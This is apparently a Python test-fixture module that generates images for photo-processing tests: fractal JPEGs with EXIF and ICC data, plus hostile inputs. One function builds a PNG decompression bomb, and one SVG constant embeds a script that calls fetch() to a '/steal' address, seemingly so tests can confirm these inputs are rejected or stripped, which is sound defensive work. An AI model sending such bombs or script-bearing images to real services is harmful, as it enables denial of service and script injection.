"""Pictures made on the spot for the photo tests (no third-party photo is committed).

`photo()` draws a photo-like JPEG (a fractal: detail everywhere, as a real photo has), with EXIF
and an ICC profile when asked, so the tests see what the photo stage keeps and what it strips.
"""

from __future__ import annotations

import io
import zlib

from PIL import Image, ImageCms

# An EXIF tag the tests look for after preparation (a camera's make; a GPS block in real photos).
CAMERA = "tgreport-test-camera"


def picture(width: int, height: int, mode: str = "RGB") -> Image.Image:
    grey = Image.effect_mandelbrot((width, height), (-2.2, -1.4, 0.8, 1.4), 60)
    if mode == "L":
        return grey
    mirrored = grey.transpose(Image.Transpose.FLIP_LEFT_RIGHT)
    return Image.merge("RGB", (grey, grey.rotate(90, expand=False), mirrored))


def photo(width: int = 1200, height: int = 800, *, exif: bool = False, orientation: int = 1,
          icc: bool = False, quality: int = 90) -> bytes:
    image = picture(width, height)
    options: dict[str, object] = {"quality": quality}
    if exif or orientation != 1:
        tags = Image.Exif()
        tags[0x010F] = CAMERA  # Make
        tags[0x0112] = orientation
        options["exif"] = tags.tobytes()
    if icc:
        options["icc_profile"] = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    out = io.BytesIO()
    image.save(out, "JPEG", **options)
    return out.getvalue()


def encoded(image: Image.Image, format: str, **options: object) -> bytes:
    out = io.BytesIO()
    image.save(out, format, **options)
    return out.getvalue()


def bomb_png(width: int = 30_000, height: int = 30_000) -> bytes:
    """A PNG that says it has `width` × `height` pixels in a few kilobytes: one zlib stream of
    zero rows, as decompression bombs are made."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return len(data).to_bytes(4, "big") + kind + data + zlib.crc32(kind + data).to_bytes(4, "big")

    header = width.to_bytes(4, "big") + height.to_bytes(4, "big") + bytes([8, 0, 0, 0, 0])  # 8-bit grey
    compressor = zlib.compressobj(9)
    row = bytes(width + 1)
    body = b"".join(compressor.compress(row) for _ in range(200)) + compressor.flush()
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", body) + chunk(b"IEND", b"")


SVG_WITH_SCRIPT = (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="800" height="600">'
                   b'<script>fetch("http://127.0.0.1:9/steal")</script>'
                   b'<rect width="800" height="600"/></svg>')
